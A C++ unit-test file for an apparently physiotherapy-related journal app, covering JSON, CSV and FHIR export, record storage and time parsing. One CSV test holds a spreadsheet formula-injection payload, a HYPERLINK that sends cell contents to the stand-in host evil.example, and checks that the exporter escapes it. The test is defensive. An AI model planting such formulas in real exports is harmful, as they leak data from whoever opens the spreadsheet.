#include "backend_test.h"
#include "journal/exports.h"
#include "journal/record_json.h"
#include "journal/sqlite_journal.h"
#include "test_support.h"

#include <gtest/gtest.h>
#include <limits>

namespace rc::journal {
namespace {

using namespace std::chrono_literals;
using test::TempDir;
using test::open_at;

// Export and record storage, the same on every backend.
class Transfer : public test::BackendTest {};

TEST_P(Transfer, ExportHasTheDocumentedShape)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    test::fill_one_of_each(*journal, test::monday_8am());
    auto document = *journal->export_json();
    EXPECT_EQ(document["format"], "rollcoach-journal");
    EXPECT_EQ(document["format_version"], 1);
    EXPECT_EQ(document["sessions"][0]["started_at"], "2026-01-05T09:00:00.000Z");
    EXPECT_EQ(document["sessions"][0]["zones"].size(), 3u);
    EXPECT_EQ(document["pain_ratings"].size(), 3u);
    EXPECT_EQ(document["checkins"][0]["session_id"], 1);
}

TEST_P(Transfer, FindClearancesGivesEveryClearanceOldestFirstWithItsDetail)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    auto t = test::monday_8am();
    // Recorded out of time order: the answer is by time, not by id.
    ASSERT_TRUE(journal->add_clearance({ 0, t + 2h, "second", { { "by", "Dr Okafor" }, { "flags", { "saddle_numbness" } } } }));
    ASSERT_TRUE(journal->add_clearance({ 0, t, "first", {} }));
    auto clearances = journal->find_clearances();
    ASSERT_TRUE(clearances) << clearances.error().message;
    ASSERT_EQ(clearances->size(), 2u);
    EXPECT_EQ((*clearances)[0].note, "first");
    EXPECT_EQ((*clearances)[1].note, "second");
    EXPECT_EQ((*clearances)[1].at, t + 2h);
    EXPECT_EQ((*clearances)[1].detail["flags"][0], "saddle_numbness");
}

TEST_P(Transfer, StoreKeepsAGivenIdAndFindIdFindsTheRecordByItsKey)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    auto session = test::sample_session(test::monday_8am());
    auto id = journal->store(session, RecordId { 7 });
    ASSERT_TRUE(id) << id.error().message;
    EXPECT_EQ(*id, 7);
    // Stored as it is: the session's own pain ratings are records of their own, not added here.
    EXPECT_EQ(*journal->count_records(), 1);
    auto found = journal->find_id(SessionKey { session.started_at, session.ended_at, session.end_reason });
    ASSERT_TRUE(found);
    EXPECT_EQ(*found, std::optional<RecordId> { 7 });
    auto other = journal->find_id(SessionKey { session.started_at, session.ended_at, EndReason::Quit });
    ASSERT_TRUE(other);
    EXPECT_FALSE(*other);
    EXPECT_FALSE(journal->store(session, RecordId { 7 }));   // the id is taken
}

TEST_P(Transfer, WriteTransactionKeepsNothingWhenItsWorkFails)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    auto failed = journal->in_write_transaction([&]() -> Result<void> {
        TRY(journal->add_note({ 0, test::monday_8am(), std::nullopt, "first" }));
        TRY(journal->store(Note { 0, test::monday_8am(), std::nullopt, "second" }, RecordId { 1 }));   // id 1 is taken
        return {};
    });
    ASSERT_FALSE(failed);
    EXPECT_EQ(*journal->count_records(), 0);
    ASSERT_TRUE(journal->in_write_transaction([&]() -> Result<void> {
        TRY(journal->add_note({ 0, test::monday_8am(), std::nullopt, "kept" }));
        return {};
    }));
    EXPECT_EQ(*journal->count_records(), 1);
}

TEST_P(Transfer, AStoredRecordWithAGivenIdDoesNotCollideWithTheNextNewOne)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    ASSERT_TRUE(journal->store(Note { 0, test::monday_8am(), std::nullopt, "restored" }, RecordId { 40 }));
    auto next = journal->add_note({ 0, test::monday_8am() + 1h, std::nullopt, "new" });
    ASSERT_TRUE(next) << next.error().message;
    EXPECT_GT(*next, 40);
}

TEST_P(Transfer, VisitRecordsWalksEveryKindOldestFirstWithTheSessionsRatings)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    test::fill_one_of_each(*journal, test::monday_8am());
    ASSERT_TRUE(journal->add_note({ 0, test::monday_8am() + 30h, std::nullopt, "second note" }));
    std::vector<std::size_t> kinds;
    std::vector<RecordId> note_ids;
    std::size_t session_ratings = 0;
    auto walked = journal->visit_records([&](AnyRecord const& record) -> Result<void> {
        kinds.push_back(record.index());
        if (auto const* session = std::get_if<SessionRecord>(&record))
            session_ratings += session->pain.size();
        if (auto const* note = std::get_if<Note>(&record))
            note_ids.push_back(note->id);
        return {};
    });
    ASSERT_TRUE(walked) << walked.error().message;
    // screening, session, 3 ratings, check-in, 2 notes, clearance, in the documented order
    EXPECT_EQ(kinds, (std::vector<std::size_t> { 0, 1, 2, 2, 2, 3, 4, 4, 5 }));
    EXPECT_EQ(session_ratings, 2u);
    ASSERT_EQ(note_ids.size(), 2u);
    EXPECT_LT(note_ids[0], note_ids[1]);
}

TEST_P(Transfer, AVisitorsErrorStopsTheWalkAndIsReturned)
{
    auto journal = open_fresh();
    ASSERT_TRUE(journal);
    test::fill_one_of_each(*journal, test::monday_8am());
    int seen = 0;
    auto walked = journal->visit_records([&](AnyRecord const&) -> Result<void> {
        if (++seen == 2)
            return Error::io("the disk is full");
        return {};
    });
    ASSERT_FALSE(walked);
    EXPECT_EQ(walked.error().message, "the disk is full");
    EXPECT_EQ(seen, 2);
}

INSTANTIATE_TEST_SUITE_P(Backends, Transfer, test::every_backend(), test::backend_name);

TEST(CsvExport, QuotesCellsWithCommasQuotesAndNewlines)
{
    EXPECT_EQ(format_csv_row({ "a", "b" }), "a,b\r\n");
    EXPECT_EQ(format_csv_row({ "plain", "with, comma" }), "plain,\"with, comma\"\r\n");
    EXPECT_EQ(format_csv_row({ "say \"hi\"", "two\nlines" }), "\"say \"\"hi\"\"\",\"two\nlines\"\r\n");
}

TEST(CsvExport, ATextThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText)
{
    // A patient's note, exported by their therapist in clinic mode and opened in a spreadsheet.
    EXPECT_EQ(format_csv_row({ "1", R"(=HYPERLINK("http://evil.example/?"&A1,"x"))" }),
        "1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n");
    EXPECT_EQ(format_csv_row({ "@SUM(A1)", "+cmd", "-2+3" }), "'@SUM(A1),'+cmd,'-2+3\r\n");
    // Numbers stay numbers, and other text is unchanged.
    EXPECT_EQ(format_csv_row({ "-3", "+4", "-0.5", "3-2", "a=b" }), "-3,+4,-0.5,3-2,a=b\r\n");
}

TEST(CsvExport, WritesOneFilePerTableAndNeverOverwrites)
{
    TempDir dir;
    auto journal = open_at(dir / "a.db");
    test::fill_one_of_each(*journal, test::monday_8am());
    auto written = write_csv(*journal, dir / "csv");
    ASSERT_TRUE(written) << written.error().message;
    EXPECT_EQ(written->size(), 9u);
    auto sessions = test::read_bytes(dir / "csv" / "sessions.csv");
    EXPECT_EQ(sessions.substr(0, sessions.find("\r\n")),
        "id,started_at,ended_at,seconds,end_reason,screening_id,plan,completed_steps,skipped_steps,cues");
    EXPECT_NE(sessions.find("1,2026-01-05T09:00:00.000Z,2026-01-05T09:10:00.000Z,600,completed,1,"), std::string::npos);
    auto zones = test::read_bytes(dir / "csv" / "session_zones.csv");
    EXPECT_NE(zones.find("1,upper_back,240"), std::string::npos);
    auto pain = test::read_bytes(dir / "csv" / "pain_ratings.csv");
    EXPECT_NE(pain.find("\"after \"\"gardening\"\", sore\""), std::string::npos);
    EXPECT_FALSE(write_csv(*journal, dir / "csv"));
    EXPECT_FALSE(std::filesystem::exists(dir / "csv" / "sessions.csv.partial"));
}

TEST(CsvExport, OneTableAloneEqualsItsFileAndAnUnknownTableListsTheKnownOnes)
{
    TempDir dir;
    auto journal = open_at(dir / "a.db");
    test::fill_one_of_each(*journal, test::monday_8am());
    ASSERT_TRUE(write_csv(*journal, dir / "csv"));
    for (auto const& name : csv_table_names()) {
        StringSink one;
        ASSERT_TRUE(write_csv_table(*journal, name, one));
        EXPECT_EQ(one.text(), test::read_bytes(dir / "csv" / (name + ".csv"))) << name;
    }
    StringSink none;
    auto refused = write_csv_table(*journal, "passwords", none);
    ASSERT_FALSE(refused);
    EXPECT_NE(refused.error().message.find("pain_ratings"), std::string::npos);
}

// The whole bundle as a clinic system would read it.
nlohmann::json fhir_bundle(Journal& journal)
{
    StringSink out;
    auto written = write_fhir_export(journal, out);
    EXPECT_TRUE(written) << (written ? "" : written.error().message);
    return nlohmann::json::parse(out.text());
}

std::vector<nlohmann::json> resources_of(nlohmann::json const& bundle, std::string const& type)
{
    std::vector<nlohmann::json> found;
    for (auto const& entry : bundle["entry"])
        if (entry["resource"]["resourceType"] == type)
            found.push_back(entry["resource"]);
    return found;
}

TEST(FhirExport, PainRatingsAreLoincObservationsWithIntegerValuesAboutThePatient)
{
    TempDir dir;
    auto journal = open_at(dir / "a.db");
    test::fill_one_of_each(*journal, test::monday_8am());
    auto bundle = fhir_bundle(*journal);
    EXPECT_EQ(bundle["resourceType"], "Bundle");
    EXPECT_EQ(bundle["type"], "collection");
    auto const& patient = bundle["entry"][0];
    EXPECT_EQ(patient["resource"]["resourceType"], "Patient");
    std::vector<nlohmann::json> pain;
    for (auto const& o : resources_of(bundle, "Observation"))
        if (o.contains("valueInteger"))
            pain.push_back(o);
    ASSERT_EQ(pain.size(), 3u);
    EXPECT_EQ(pain[0]["status"], "final");
    EXPECT_EQ(pain[0]["code"]["coding"][0]["system"], "http://loinc.org");
    EXPECT_EQ(pain[0]["code"]["coding"][0]["code"], "72514-3");
    EXPECT_EQ(pain[0]["valueInteger"], 5);
    EXPECT_EQ(pain[0]["effectiveDateTime"], "2026-01-05T09:00:00.000Z");
    EXPECT_EQ(pain[0]["subject"]["reference"], patient["fullUrl"]);
    EXPECT_EQ(pain[2]["valueInteger"], 4);
    EXPECT_FALSE(pain[2].contains("partOf"));   // the standalone rating
    for (auto const& entry : bundle["entry"])
        EXPECT_EQ(entry["fullUrl"].get<std::string>().rfind("urn:uuid:", 0), 0u);
}

TEST(FhirExport, ASessionIsAProcedureWithItsZonesAndAnObservationOfMinutesPerZone)
{
    TempDir dir;
    auto journal = open_at(dir / "a.db");
    test::fill_one_of_each(*journal, test::monday_8am());
    auto bundle = fhir_bundle(*journal);
    auto procedures = resources_of(bundle, "Procedure");
    ASSERT_EQ(procedures.size(), 1u);
    auto const& procedure = procedures[0];
    EXPECT_EQ(procedure["status"], "completed");
    EXPECT_EQ(procedure["performedPeriod"]["end"], "2026-01-05T09:10:00.000Z");
    ASSERT_EQ(procedure["bodySite"].size(), 3u);
    EXPECT_EQ(procedure["bodySite"][0]["text"], "glutes");   // zones come back in id order
    nlohmann::json minutes;
    for (auto const& o : resources_of(bundle, "Observation"))
        if (o["id"] == "session-1-minutes")
            minutes = o;
    ASSERT_FALSE(minutes.is_null());
    EXPECT_EQ(minutes["valueQuantity"]["value"], 9.0);   // 240 + 180 + 120 s
    EXPECT_EQ(minutes["valueQuantity"]["code"], "min");
    EXPECT_EQ(minutes["component"][0]["valueQuantity"]["value"], 3.0);   // glutes, 180 s
    // The session's ratings point at its Procedure.
    std::string procedure_url;
    for (auto const& entry : bundle["entry"])
        if (entry["resource"]["resourceType"] == "Procedure")
            procedure_url = entry["fullUrl"];
    EXPECT_EQ(minutes["partOf"][0]["reference"], procedure_url);
}

TEST(FhirExport, ScreeningsAndCheckInsAreQuestionnaireResponsesWithTheirAnswers)
{
    TempDir dir;
    auto journal = open_at(dir / "a.db");
    test::fill_one_of_each(*journal, test::monday_8am());
    auto responses = resources_of(fhir_bundle(*journal), "QuestionnaireResponse");
    ASSERT_EQ(responses.size(), 2u);
    auto const& screening = responses[0];
    EXPECT_EQ(screening["status"], "completed");
    EXPECT_NE(screening["questionnaire"].get<std::string>().find("screening"), std::string::npos);
    EXPECT_EQ(screening["item"][0]["linkId"], "age_over_50");
    EXPECT_EQ(screening["item"][0]["answer"][0]["valueBoolean"], true);
    EXPECT_EQ(screening["item"].back()["answer"][0]["valueString"], "proceed_with_changes");
    auto const& checkin = responses[1];
    EXPECT_NE(checkin["questionnaire"].get<std::string>().find("checkin"), std::string::npos);
    bool soreness_found = false;
    for (auto const& item : checkin["item"])
        if (item["linkId"] == "rollcoach-soreness") {
            soreness_found = true;
            EXPECT_EQ(item["answer"][0]["valueInteger"], 3);
        }
    EXPECT_TRUE(soreness_found);
}

TEST(UtcTime, FormatsAndParsesMilliseconds)
{
    auto t = test::monday_8am() + 1234ms;
    EXPECT_EQ(format_utc(t), "2026-01-05T08:00:01.234Z");
    EXPECT_EQ(parse_utc("2026-01-05T08:00:01.234Z"), t);
    EXPECT_EQ(parse_utc("2026-01-05T08:00:01+00:00"), test::monday_8am() + 1s);
    EXPECT_FALSE(parse_utc("2026-13-05T08:00:01Z"));
    // Past 2261 a WallTime cannot hold the time: refused, not overflowed (fuzz_spool_file, UBSan).
    EXPECT_FALSE(parse_utc("3955-06-01T08:00:00.123Z"));
    EXPECT_FALSE(parse_utc("1850-01-01T00:00:00Z"));
    EXPECT_TRUE(parse_utc("2200-12-31T23:59:59Z"));
    // Stored milliseconds beyond the range are held at its ends, in order, without overflow.
    EXPECT_LT(from_unix_ms(0), from_unix_ms(std::numeric_limits<std::int64_t>::max()));
    EXPECT_GT(from_unix_ms(0), from_unix_ms(std::numeric_limits<std::int64_t>::min()));
    EXPECT_EQ(to_unix_ms(from_unix_ms(1'767'600'000'000)), 1'767'600'000'000);
    EXPECT_FALSE(parse_utc("2026-01-05 08:00:01"));
}

TEST(UtcTime, HandlesTimesBefore1970)
{
    auto t = WallTime {} - 1500ms;
    EXPECT_EQ(format_utc(t), "1969-12-31T23:59:58.500Z");
    EXPECT_EQ(parse_utc(format_utc(t)), t);
}

}
}

// Found by fuzz_journal_import: a number where the format name belongs threw out of the parser.
TEST(ExportImport, AFormatThatIsNotTextIsRefusedNotThrown)
{
    for (auto const* text : { R"({"format":1})", R"({"format":null,"format_version":1})", R"({"format":["rollcoach"]})" }) {
        auto parsed = rc::journal::parse_contents_text(text);
        ASSERT_FALSE(parsed) << text;
        EXPECT_NE(parsed.error().message.find("not a rollcoach journal export"), std::string::npos) << parsed.error().message;
    }
}
